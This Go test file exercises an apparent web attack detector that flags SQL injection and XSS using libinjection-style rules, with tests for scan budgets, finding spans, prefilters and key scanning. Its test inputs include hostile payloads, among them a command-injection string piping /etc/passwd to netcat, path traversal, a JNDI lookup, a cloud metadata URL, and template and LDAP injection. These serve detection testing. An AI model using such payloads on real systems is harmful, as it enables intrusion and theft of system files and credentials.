package detect

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const enough = 1 << 30

func scan(s string) []Finding {
	return Scan([]byte(s), Options{}, &Budget{Left: enough}, nil)
}

// sum is the highest score of a type.
func sum(found []Finding) (most int) {
	scores := map[string]int{}
	for _, f := range found {
		scores[f.Type] += f.Score
		most = max(most, scores[f.Type])
	}
	return most
}

func TestSamples(t *testing.T) {
	for _, class := range []string{"sqli", "xss"} {
		for _, s := range samples(t, class+"/attack") {
			assert.True(t, slices.ContainsFunc(scan(s), func(f Finding) bool { return f.Type == class }), "%s missed: %q", class, s)
		}
		for _, s := range samples(t, class+"/benign") {
			assert.Less(t, sum(scan(s)), 5, "%q", s)
		}
	}
}

func TestFinding(t *testing.T) {
	tests := []struct {
		name, text string
		want       Finding
	}{
		{"sqli", "' OR 1=1 -- ", Finding{"sqli", "942100", "SQL injection attack detected via libinjection", 5, 0, 12, nil}},
		{"xss", "<script>alert(1)</script>", Finding{"xss", "941100", "XSS attack detected via libinjection", 5, 0, 25, nil}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := Finding{Type: "rce"}
			budget := Budget{Left: enough}
			found := Scan([]byte(tt.text), Options{}, &budget, []Finding{before})
			require.Equal(t, before, found[0])
			require.Contains(t, found, tt.want)
			require.False(t, budget.Exhausted)
		})
	}
}

func TestScanBoth(t *testing.T) {
	var types []string
	for _, f := range scan(`' OR 1=1 -- <script>alert(1)</script>`) {
		types = append(types, f.Type)
	}
	require.Subset(t, types, []string{"sqli", "xss"})
}

func TestBudget(t *testing.T) {
	const attack = "<script>alert(1)</script>" // libinjection reads it
	all := Budget{Left: enough}
	count := len(Scan([]byte(attack), Options{}, &all, nil))
	price := enough - all.Left
	require.GreaterOrEqual(t, price, len(attack)+callBytes)
	tests := []struct {
		name      string
		values    []string
		left      int
		findings  int
		exhausted bool
	}{
		{"benign costs next to nothing", []string{"how are you? I'm fine"}, 8, 0, false},
		{"exact", []string{attack}, price, count, false},
		{"one short", []string{attack}, price - 1, count - 1, true},
		{"charged each time", []string{attack, attack}, 2*price - 1, 2*count - 1, true},
		{"exhausted stays so", []string{attack + attack, attack}, 1, 0, true},
		{"benign after exhaustion", []string{attack, "hello"}, 0, 0, true},
		{"empty value", []string{""}, 0, 0, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			budget := Budget{Left: tt.left}
			var found []Finding
			for _, v := range tt.values {
				found = Scan([]byte(v), Options{}, &budget, found)
			}
			require.Len(t, found, tt.findings)
			require.Equal(t, tt.exhausted, budget.Exhausted)
		})
	}
}

// The span of a finding begins where the eye should look.
func TestSpan(t *testing.T) {
	long := strings.Repeat("I'm reading, and 1 < 2 is = true. ", 500)
	for _, tt := range []struct{ name, before, attack string }{
		{"tag", long, "<script>alert(1)</script>"},
		{"attribute", long, "onerror = alert(1)"},
		{"nothing before", "", "<svg onload=alert(1)>"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			found := Scan([]byte(tt.before+tt.attack), Options{}, &Budget{Left: 1 << 20}, nil)
			i := slices.IndexFunc(found, func(f Finding) bool { return f.Rule == "941100" })
			require.GreaterOrEqual(t, i, 0)
			require.Equal(t, len(tt.before), found[i].Start)
			require.Equal(t, len(tt.before+tt.attack), found[i].End)
		})
	}
}

// Ordinary texts are to be rejected by the prefilters, without an allocation.
func TestPrefilterRejects(t *testing.T) {
	texts := []string{
		"", "a", "I <3 this team; meet @ 5 o'clock & bring the cake",
		"don't you think it's a select table and not in or like the left one?",
		"1 - 2 - 3, go. See you at 10:30 (or 11), 20% off!",
		"price = 5 and height <= 3 or a < b", "<b>bold</b> <p>text</p> </script>",
		`<a href="https://example.com/?q=1">link</a>`, "https://example.com/?to=anna&from=berlin&by=train",
		`{"user":{"id":1042,"name":"Anna O'Neil"},"text":"it's late"}`,
		"Yazılım güncellemesi için ışıkları söndürün", "C:\\Users\\anna\\file.txt", "`code` and ``more``",
		strings.Repeat(benchProse, 100),
	}
	for _, s := range texts {
		require.False(t, mayBeSQLi(s), "sqli: %q", s)
		require.False(t, mayBeXSS(s), "xss: %q", s)
	}
	var (
		values   [][]byte
		findings = make([]Finding, 0, 4)
		budget   = &Budget{}
	)
	for _, s := range append(texts, "in boolean order by is not like left outer join "+strings.Repeat("union all ", 9)) {
		values = append(values, []byte(s))
	}
	require.Zero(t, testing.AllocsPerRun(100, func() {
		for _, v := range values {
			Scan(v, Options{}, budget, findings)
		}
	}))
}

// A text that has to be read on and on is, at the budget's cost.
func TestSQLiSteps(t *testing.T) {
	for _, unit := range []string{"1+", " ", "1,", "a-", "(("} {
		for _, c := range []struct {
			n, cost int
		}{{100, 0}, {freeSteps + 1, (freeSteps+1)*len(unit) + callBytes}} {
			text, b := strings.Repeat(unit, c.n), Budget{Left: enough}
			require.False(t, isSQLi(text, setOf(text), &b), "%q", unit)
			require.Equal(t, c.cost, enough-b.Left, "%q", unit)
			require.False(t, isSQLi(text, setOf(text), &Budget{}))
		}
	}
	long := strings.Repeat("1+", freeSteps) + "1 union select 2"
	require.True(t, isSQLi(long, setOf(long), &Budget{Left: enough}))
	b := Budget{}
	require.False(t, isSQLi(long, setOf(long), &b))
	require.True(t, b.Exhausted)
}

// TestKeys: a key is judged like a value, but for the name of a class, which is a key
// of Java's serialization; rules for what servers send have to ask for keys.
func TestKeys(t *testing.T) {
	key := func(text string) int { return sum(Scan([]byte(text), Options{Key: true}, &Budget{Left: enough}, nil)) }
	for _, text := range []string{
		"; cat /etc/passwd | nc 127.0.0.1 4444", "../../../../etc/passwd", "${jndi:ldap://192.0.2.1/a}", "' or 1=1 -- ",
		"<script>alert(1)</script>", "http://169.254.169.254/latest/meta-data/", "{{7*7}}{{config.items()}}", "*)(uid=*))(|(uid=*",
	} {
		require.GreaterOrEqual(t, key(text), 5, text)
	}
	for _, text := range []string{
		"text", "created_at", "user.name", "a[b][]", "X-Request-Id", "/users/{id}", "application/json", "@context", "#/definitions/a",
		"https://example.com/schema#a", "src/main.ts", "2024-01-01T00:00:00Z", "java.util.ArrayList", "<<", "a -> b", "O'Neil & Sons",
	} {
		require.Less(t, key(text), 5, text)
	}
	rules, err := parseRules("a.rules", []byte("rule a\ntype x1\nscore 5\nphrase secret\ndirection response\nrule b\ntype x1\nscore 5\nphrase c\n"), Values|Keys)
	require.NoError(t, err)
	require.Equal(t, []Target{Values, Values | Keys}, []Target{rules[0].Target, rules[1].Target})
}

// TestPercentInKey: of a value, what percent-encoding hides is a field of its own,
// of a key it is not.
func TestPercentInKey(t *testing.T) {
	const text = "%3Cscript%3Ealert(1)%3C/script%3E"
	found := Scan([]byte(text), Options{Key: true}, &Budget{Left: enough}, nil)
	require.GreaterOrEqual(t, sum(found), 5)
	require.Empty(t, scan(text))
}
